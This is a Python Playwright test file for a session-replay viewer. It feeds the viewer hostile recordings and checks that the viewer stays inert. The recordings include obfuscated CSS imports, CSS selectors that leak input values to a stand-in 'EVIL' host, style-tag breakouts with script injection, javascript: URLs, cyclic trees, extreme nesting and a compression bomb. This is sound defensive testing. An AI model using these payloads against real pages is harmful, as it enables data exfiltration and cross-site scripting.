"""Styles that would ask somebody, and streams that no page would send: bombs, cycles, numbers beyond reason."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from tests.e2e.hostile import EVIL, INCREMENT, NOTE, SNAPSHOT, Desk, desk, packed

__all__ = ["desk"]
RUN = "top.hacked = 1; parent.hacked = 1; document.cookie = 'hacked=1'"


SHEETS = {
    "a plain import": f"@import '{EVIL}';",
    "an escaped import": f"@\\69mport url({EVIL});",
    "an import behind a comment": f"/* */@import/**/url('{EVIL}');",
    "an import with a layer": f"@import url({EVIL}) layer(x) supports(display:grid);",
    "a charset before it": f"@charset 'utf-7'; @import '{EVIL}';",
    "an import within a broken rule": f"a {{ color: red; }} }} @import '{EVIL}';",
    "a namespace": f"@namespace url({EVIL}); @namespace x url({EVIL});",
}


@pytest.mark.parametrize("what", SHEETS)
def test_a_style_sheet_imports_nothing(desk: Desk, what: str) -> None:
    sheet = SHEETS[what]
    desk.draws(head=(desk.node("style", {}, sheet), desk.node("style", {"_cssText": sheet})))


def test_a_style_asks_for_no_picture_of_another_site(desk: Desk) -> None:
    url = f"url({EVIL}i.png)"
    values = {
        "background": url, "background-image": f"image-set('{EVIL}i.png' 1x)", "list-style": url, "cursor": f"{url}, auto",
        "border-image": f"{url} 1", "mask": url, "filter": f"url({EVIL}f.svg#x)", "clip-path": f"url({EVIL}c.svg#x)",
        "content": url, "shape-outside": url, "-moz-binding": url, "behavior": url, "--x": url, "src": url,
    }  # fmt: skip
    style = ";".join(f"{name}:{value}" for name, value in values.items())
    desk.draws(
        desk.node("p", {"style": style, "class": "a"}, "x"),
        desk.node("p", {"style": f"background:\\75rl({EVIL})"}, "x"),
        desk.node("p", {"style": "background:url(\\68ttp://evil.test/)"}, "x"),
        head=(desk.node("style", {}, f".a::before,.a::after {{ {style} }} .a {{ background: var(--x) }}"),),
    )


def test_a_style_tells_nobody_what_stands_in_a_field(desk: Desk) -> None:
    rules = "".join(f"input[value^='{sign}'] {{ background: url({EVIL}{sign}) }}" for sign in "abc")
    has = f"body:has(input[value*=b]) {{ background: url({EVIL}b) }} input:valid {{ list-style: url({EVIL}v) }}"
    desk.draws(desk.node("input", {"value": "abc", "type": "text"}), head=(desk.node("style", {}, rules + has),))


def test_a_style_does_not_end_its_own_element(desk: Desk) -> None:
    for end in ("</style>", "</STYLE >", "<!--</style>", "\\3c/style>"):
        desk.draws(
            desk.node("style", {}, f"a {{}} {end}<img src=x: onerror='{RUN}'><script>{RUN}</script>"),
            head=(desk.node("style", {"_cssText": f"a::after {{ content: '{end}<script>{RUN}</script>' }}"}),),
        )


def test_fonts_come_from_the_desk_alone(desk: Desk) -> None:
    face = f"@font-face {{ font-family: evil; src: url({EVIL}f.woff2), local('x'); unicode-range: U+0041 }}"
    desk.draws(desk.node("p", {"style": "font-family: evil"}, "AAAA"), head=(desk.node("style", {}, face),))
    desk.news({"source": 10, "family": "evil", "fontSource": f"url({EVIL})", "buffer": False})
    desk.harmless()


def test_rules_that_come_later_are_as_clean_as_the_first(desk: Desk) -> None:
    style = desk.node("style", {"_cssText": "a { color: red }"})
    paragraph = desk.node("p", {}, "x")
    desk.draws(paragraph, head=(style,))
    sheets = [{"styleId": 5, "rules": [{"rule": f"@import '{EVIL}';"}, {"rule": f"p {{ background: url({EVIL}) }}"}]}]
    desk.news(
        {"source": 8, "id": style["id"], "adds": [{"rule": f"@import '{EVIL}';"}, {"rule": f"p {{ background: url({EVIL}) }}"}]},
        {"source": 8, "id": style["id"], "replaceSync": f"p {{ background: url({EVIL}) }}"},
        {"source": 13, "id": style["id"], "index": [0], "set": {"property": "background", "value": f"url({EVIL})"}},
        {"source": 15, "id": 1, "styleIds": [5], "styles": sheets},
        {"source": 0, "texts": [], "removes": [], "adds": [], "attributes": [
            {"id": paragraph["id"], "attributes": {"style": {"background": f"url({EVIL})"}, "onclick": RUN}}]},
    )  # fmt: skip
    desk.drawn()


def test_events_that_draw_by_themselves_are_let_go(desk: Desk) -> None:
    picture = desk.draws(desk.node("p", {}, "still"))
    desk.news(
        {"source": 9, "id": 1, "commands": [{"property": "drawImage", "args": [{"rr_type": "HTMLImageElement", "src": EVIL}]}]},
        {"source": 7, "id": 1, "type": 0}, {"source": 11, "level": "log", "payload": [RUN]},
        {"source": 16, "define": {"name": "x-y"}}, {"source": 99},
    )  # fmt: skip
    desk.harmless()
    expect(picture.locator("p")).to_have_text("still")


def test_a_tree_that_bites_its_tail_is_drawn_anew(desk: Desk) -> None:
    outer = desk.node("div", {}, desk.node("p", {}, "in"))
    desk.draws(outer)
    inner = outer["childNodes"][0]["id"]
    bite = {**desk.node("i", {}), "id": outer["id"]}
    desk.news(
        {
            "source": 0,
            "texts": [],
            "attributes": [],
            "removes": [],
            "adds": [{"parentId": inner, "nextId": None, "node": bite}],
        }
    )
    desk.news(
        {
            "source": 0,
            "texts": [],
            "attributes": [],
            "adds": [],
            "removes": [{"id": 1, "parentId": 1}, {"id": 2**31, "parentId": 5}],
        }
    )
    desk.harmless()
    desk.draws(desk.node("p", {}, "anew"))


def test_numbers_beyond_reason_neither_stretch_nor_stop_the_picture(desk: Desk) -> None:
    desk.draws()
    desk.news({"source": 4, "width": 1e12, "height": -5}, {"source": 4, "width": None, "height": "x"})
    desk.news(
        {"source": 3, "id": 1, "x": 1e308, "y": "javascript:"},
        {"source": 1, "positions": [{"x": [], "y": {}, "id": 1}]},
    )
    desk.draws()
    size = desk.page.frame_locator("iframe").locator(".place").evaluate("(place) => place.offsetWidth")
    assert size <= 16_384


def test_ten_thousand_elements_within_each_other_do_not_break_the_document(desk: Desk) -> None:
    deep: Any = "x"
    for _ in range(10_000 // 50):
        deep = desk.node("b", {}, deep)
    desk.draws(deep)
    desk.number += 1
    desk.base = desk.number
    raw = b'[{"type":2,"timestamp":1,"data":{"node":' + b'{"type":2,"id":7,"tagName":"b","childNodes":[' * 10_000
    desk.give(SNAPSHOT, packed(raw + b"]}" * 10_000 + b"}}]"), flags=3)
    desk.harmless()
    desk.draws(desk.node("p", {}, "anew"))


def test_frames_out_of_order_ask_for_a_snapshot_and_draw_nothing(desk: Desk) -> None:
    picture = desk.draws(desk.node("p", {}, "first"))
    paint = [{"type": 3, "timestamp": 3, "data": {"source": 0, "texts": [], "removes": [], "attributes": [], "adds": [
        {"parentId": 1, "nextId": None, "node": desk.node("p", {"id": "late"}, "late")}]}}]  # fmt: skip
    for number, base in ((self_number := desk.number + 5, desk.base), (self_number, desk.base + 3), (1, 1)):
        desk.give(INCREMENT, paint, number=number, base=base)
    desk.harmless()
    expect(picture.locator("#late")).to_have_count(0)


def test_a_note_is_a_note_whatever_it_says(desk: Desk) -> None:
    desk.draws()
    for note in ({"url": "javascript:" + RUN, "front": True, "__proto__": {"gone": True}}, [1], "x", {"width": RUN}):
        desk.give(NOTE, note)
    desk.drawn()


def test_a_bomb_of_a_gigabyte_is_stopped_at_sixteen_megabytes(browser: Browser) -> None:
    context = browser.new_context(viewport={"width": 1000, "height": 700})
    desk = Desk(context.new_page())
    desk.draws(desk.node("p", {}, "before"))
    measure = desk.page.context.new_cdp_session(desk.page)
    measure.send("Performance.enable")
    slice_ = packed(b"," + b" " * (62 * 1024**2))
    for number in range(17):
        first = desk.number + 1 if number == 0 else desk.base
        desk.number, desk.base = desk.number + 1, first
        desk.give(SNAPSHOT, slice_, flags=1 if number == 0 else 0)
    expect(desk.page.frame_locator("iframe").locator(".said")).to_be_visible()
    assert desk.told("state")[-1]["state"] == "too_large"
    metrics = {each["name"]: each["value"] for each in measure.send("Performance.getMetrics")["metrics"]}
    assert metrics["JSHeapUsedSize"] < 128 * 1024**2
    context.close()
